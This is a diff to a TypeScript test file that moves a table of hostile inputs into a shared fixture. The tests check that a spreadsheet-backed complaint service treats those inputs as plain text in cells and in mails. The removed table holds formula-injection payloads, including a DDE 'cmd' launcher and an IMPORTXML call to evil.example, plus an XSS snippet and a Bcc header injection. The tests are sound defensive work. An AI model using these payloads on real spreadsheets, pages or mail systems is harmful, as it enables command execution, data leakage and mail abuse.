@@ -11,6 +11,7 @@ import { REGISTERS, type Register } from '../../src/model/register.ts'
 import type { Cell } from '../../src/ports/ledger.ts'
 import type { Column } from '../../src/sheet/definition.ts'
 import { downloadWorkbook } from '../../src/standalone/xlsx/index.ts'
+import { HOSTILE_TEXTS } from '../fixtures/hostile-texts.ts'
 import { read, sheetOf } from '../standalone/xlsx/support.ts'
 import { cell, row, sh, tabOf } from '../support/desk.ts'
 import { openSheetsDesk, silent } from '../support/sheets-desk.ts'
@@ -19,26 +20,6 @@ import { smtpServer, type TestServer } from '../support/smtp.ts'
 const NOW = sh('2026-11-22 10:07')
 const now = { now: () => NOW }
 
-/** What nobody should type, by name. */
-const TEXTS: Readonly<Record<string, string>> = {
-  'a sum': '=1+1',
-  'a plus': "+cmd|' /C calc'!A0",
-  'an at sign': '@SUM(A1:A9)',
-  'a minus': '-2+3',
-  'a fetch': '=IMPORTXML("http://evil.example/x","//a")',
-  'a link': '=HYPERLINK("http://evil.example","here")',
-  HTML: '<script>alert(1)</script><img src=x onerror=alert(1)>"\'--></td></table>',
-  'mail headers': 'x\r\nBcc: all@example.com\r\n\r\nbody',
-  'a NUL': 'a\0b',
-  'line breaks': 'one\r\ntwo\rthree\nfour',
-  'right to left': '\u202Eabc\u2066def\u200F',
-  'nothing visible': '\u200B\u200D\uFEFF\u2060',
-  'emoji with joiners': '👩‍👩‍👧‍👦'.repeat(40),
-  'a byte order mark': '\uFEFF张三',
-  'half a character': 'a\uD800b',
-  'a name of objects': '__proto__',
-  '50,000 characters': '长'.repeat(50_000),
-}
 /** The service keeps whole characters alone. */
 const kept = (text: string): string => text.toWellFormed()
 
@@ -109,7 +90,7 @@ describe('what nobody should type, in every cell of every register', () => {
     await sweep({ ...parts, mailer, runId: 'a' })
     const number = String((await desk.ledger.read()).tables.get('complaint')?.rows[first]?.[0])
     for (const register of REGISTERS) {
-      const rows = Object.values(TEXTS).flatMap((text) => rowsWith(register, text, number))
+      const rows = Object.values(HOSTILE_TEXTS).flatMap((text) => rowsWith(register, text, number))
       const start = await desk.person.type(register, rows)
       typed.push(...rows.map((cells, index) => ({ register, row: start + index, cells })))
     }
@@ -155,7 +136,7 @@ describe('what nobody should type, in every cell of every register', () => {
   it('accepts the rows in which it is no more than text', () => {
     const plans = [...swept.plan.rows, ...swept.plan.callbacks]
     const accepted = plans.filter(({ isNew }) => isNew)
-    expect(accepted.length).toBeGreaterThan((REGISTERS.length * Object.keys(TEXTS).length) / 2)
+    expect(accepted.length).toBeGreaterThan((REGISTERS.length * Object.keys(HOSTILE_TEXTS).length) / 2)
     expect(swept.failed).toBe(0)
   })
 
@@ -170,7 +151,7 @@ describe('what nobody should type, in every cell of every register', () => {
   })
 
   it('leaves in mails as text: no header, no recipient and no tag of its own', () => {
-    expect(mails.arrived.length).toBeGreaterThan(Object.keys(TEXTS).length)
+    expect(mails.arrived.length).toBeGreaterThan(Object.keys(HOSTILE_TEXTS).length)
     for (const { to, raw, parsed } of mails.arrived) {
       const { subject = '', text = '', html } = parsed as ParsedMail & { readonly html: string }
       expect(to).not.toContain('all@example.com')
